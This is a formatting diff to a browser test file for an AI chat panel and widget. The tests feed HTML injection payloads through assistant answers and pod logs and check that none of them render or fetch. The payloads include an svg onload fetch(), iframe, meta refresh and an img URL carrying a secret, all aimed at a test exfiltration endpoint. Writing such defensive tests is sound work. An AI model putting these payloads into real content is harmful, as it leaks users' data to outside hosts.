@@ -26,7 +26,9 @@ pytestmark = pytest.mark.browser
 
 ANSWER_MARKER = "PAYLOAD_ANSWER_END"
 # Tags that would embed, style, refresh, re-base or submit if they reached the page.
-FORBIDDEN = "img:not([alt='own']), iframe, object, embed, svg, video, audio, style, link, meta, base, form"
+FORBIDDEN = (
+    "img:not([alt='own']), iframe, object, embed, svg, video, audio, style, link, meta, base, form"
+)
 
 
 def answer_payload(exfil: str, base_url: str) -> str:
@@ -39,7 +41,7 @@ def answer_payload(exfil: str, base_url: str) -> str:
             f'<img srcset="{exfil}/srcset 2x">',
             f'<iframe src="{exfil}/iframe"></iframe>',
             f'<object data="{exfil}/object"></object><embed src="{exfil}/embed">',
-            f"<svg onload=\"fetch('{exfil}/svg-onload')\"><image href=\"{exfil}/svg-image\"/></svg>",
+            f'<svg onload="fetch(\'{exfil}/svg-onload\')"><image href="{exfil}/svg-image"/></svg>',
             f'<video poster="{exfil}/poster" src="{exfil}/video"></video>',
             f'<link rel="stylesheet" href="{exfil}/link.css">',
             f'<meta http-equiv="refresh" content="0;url={exfil}/refresh">',
@@ -157,9 +159,11 @@ def test_cluster_payloads_fetch_nothing_in_the_panel(
     page = payload_page
     ask(page, "show the logs of payments-api in payments")
     wait_idle(page)
-    logs = page.locator(f"{PANEL} .jp-kchat-tool-call").filter(
-        has=page.locator(".jp-kchat-tool-name", has_text="get_pod_logs")
-    ).last
+    logs = (
+        page.locator(f"{PANEL} .jp-kchat-tool-call")
+        .filter(has=page.locator(".jp-kchat-tool-name", has_text="get_pod_logs"))
+        .last
+    )
     expect(logs).to_contain_text(LOG_MARKER)
     # The log shows as text, the payload readable as it was written.
     expect(logs).to_contain_text(f'<iframe src="{exfil.url}/log-iframe"></iframe>')
@@ -167,7 +171,7 @@ def test_cluster_payloads_fetch_nothing_in_the_panel(
     wait_idle(page)
     events = page.locator(f"{PANEL} .jp-kchat-tool-call").filter(has_text=EVENT_MARKER).last
     expect(events).to_be_visible()
-    ask(page, f"say Done. <img src=\"{payload_lab.base_url}static/favicons/favicon.ico\" alt=\"own\">")
+    ask(page, f'say Done. <img src="{payload_lab.base_url}static/favicons/favicon.ico" alt="own">')
     wait_idle(page)
     wait_own_image(page.locator(f"{PANEL} .jp-kchat-assistant").last)
     cards = page.locator(f"{PANEL} .jp-kchat-items")
@@ -202,14 +206,18 @@ def test_answer_and_cluster_payloads_fetch_nothing_in_the_widget(
     assert answer.locator(FORBIDDEN).count() == 0
     for text in ("Report", "after the image", "styled text", "click me", "the docs"):
         expect(answer).to_contain_text(text)
-    expect(answer.locator("a.jp-kchat-blocked", has_text=f"{exfil.url}/img?k=secret")).to_have_count(1)
+    expect(
+        answer.locator("a.jp-kchat-blocked", has_text=f"{exfil.url}/img?k=secret")
+    ).to_have_count(1)
     assert_safe_links(answer)
     box = widget.locator("textarea[aria-label='Message']")
     box.fill("show the logs of payments-api in payments")
     box.press("Enter")
-    logs = widget.locator(".jp-kchat-tool-call").filter(
-        has=page.locator(".jp-kchat-tool-name", has_text="get_pod_logs")
-    ).last
+    logs = (
+        widget.locator(".jp-kchat-tool-call")
+        .filter(has=page.locator(".jp-kchat-tool-name", has_text="get_pod_logs"))
+        .last
+    )
     expect(logs).to_contain_text(LOG_MARKER)
     expect(widget.locator(".jp-kchat-stop")).to_be_hidden()
     assert widget.locator(FORBIDDEN).count() == 0
